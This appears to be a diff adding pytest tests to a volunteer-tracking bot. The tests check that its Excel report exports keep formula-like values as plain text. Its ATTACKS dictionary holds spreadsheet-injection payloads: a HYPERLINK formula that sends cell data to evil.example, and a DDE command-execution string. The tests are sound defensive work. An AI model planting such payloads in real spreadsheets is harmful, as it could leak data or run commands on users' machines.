@@ -4,16 +4,22 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import zipfile
+from pathlib import Path
 
 import pytest
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
+from sqlalchemy import update
 
 from bot.core.errors import DomainError
 from bot.core.i18n import make_i18n
+from bot.ledger import service as ledger
 from bot.reports import service as reports
+from bot.reports import xlsx
 from bot.reports.service import build_report, ledger_lines, month_of, parse_period, week_of
 from bot.reports.xlsx import workbook
 from storage.db import Database
+from storage.models import Service, Team, User, Volunteer
 from tests import databases
 from tests import report_data as data
 from tests.report_data import SHANGHAI, WEEK
@@ -166,3 +172,79 @@ async def test_one_teams_figures(seeded):
     assert [(h.name_zh, h.minutes) for h in r.by_service] == [("陪诊", 90), ("重阳敬老", 240)]
     assert len(lines) == 4 and {line.team for line in lines} == {"助老服务队"}
     assert sum(line.minutes for line in lines) == 330
+
+
+# Formula-safe workbooks -------------------------------------------------------------------------------------------
+
+ATTACKS = {
+    "volunteer": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
+    "team": "+1+2",
+    "service": "-2+3",
+    "approver": "@SUM(1+1)",
+    "reason": "\t=1+1",
+    "reason2": "\r=cmd|' /C calc'!A0",
+}
+
+
+async def test_workbook_cells_that_look_like_formulas_stay_text(seeded):
+    """A volunteer named "=HYPERLINK(…)" (or a team "+1+2", a service "-2+3", an approver "@SUM(…)", a reason that
+    starts with a tab or a carriage return) is text in the coordinator's workbook, never a formula."""
+    db, ids = seeded
+    async with db.tx() as s:
+        await s.execute(update(Volunteer).where(Volunteer.user_id == data.V1).values(name=ATTACKS["volunteer"]))
+        await s.execute(update(Team).where(Team.id == ids.team1).values(name=ATTACKS["team"]))
+        await s.execute(update(Service).where(Service.id == ids.cleaning).values(name_zh=ATTACKS["service"]))
+        await s.execute(update(User).where(User.id == data.COORD).values(full_name=ATTACKS["approver"]))
+        for reason in (ATTACKS["reason"], ATTACKS["reason2"]):
+            ledger.add_service(
+                s,
+                volunteer_id=data.V2,
+                minutes=30,
+                points_per_hour=10,
+                request_id=None,
+                approved_by=data.COORD,
+                now=data.at(18, 12),
+                reason=reason,
+            )
+    period = week_of(dt.date(2026, 11, 16))
+    async with db.read() as s:
+        report = await build_report(s, period, SHANGHAI)
+        lines = await ledger_lines(s, period, SHANGHAI)
+    with make_i18n().context(), make_i18n().use_locale("zh_Hans"):
+        content = workbook(report, lines, SHANGHAI, "zh_Hans")
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)  # not one formula
+
+    book = load_workbook(io.BytesIO(content))
+    cells = {c.value: c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    for attack in ATTACKS.values():
+        attack = attack.replace("\r", "\n")  # XML reads a carriage return back as a line feed
+        assert attack in cells, attack
+        assert cells[attack].data_type == "s" and cells[attack].quotePrefix, attack
+    assert not cells["志愿者"].quotePrefix  # ordinary text carries no prefix
+    ledger_rows = list(book.worksheets[1].iter_rows(values_only=True))
+    assert ledger_rows[-1][4] == sum(row[4] for row in ledger_rows[1:-1])  # numbers are still numbers
+
+
+def test_cells_keep_numbers_and_drop_what_a_workbook_cannot_hold():
+    book = Workbook(write_only=True)
+    ws = book.create_sheet("x")
+    xlsx.append(ws, ["=1+1", -3, 2.5, None, "#N/A", "a\x01b", "-"])
+    values = [c.value for c in load_workbook(io.BytesIO(xlsx.workbook_bytes(book))).worksheets[0][1]]
+    assert values == ["=1+1", -3, 2.5, None, "#N/A", "ab", "-"]
+
+
+def test_only_this_module_writes_workbooks():
+    """Every .xlsx export goes through bot/reports/xlsx.py (whose rows all go through `append`)."""
+    root = Path(__file__).resolve().parents[2]
+    users = [
+        str(path.relative_to(root))
+        for folder in ("bot", "handlers", "scheduling")
+        for path in (root / folder).rglob("*.py")
+        if "openpyxl" in path.read_text(encoding="utf-8")
+    ]
+    assert users == ["bot/reports/xlsx.py"]
+    source = (root / "bot" / "reports" / "xlsx.py").read_text(encoding="utf-8")
+    assert source.count(".append(") == 1  # the one in append(): no row is written around it
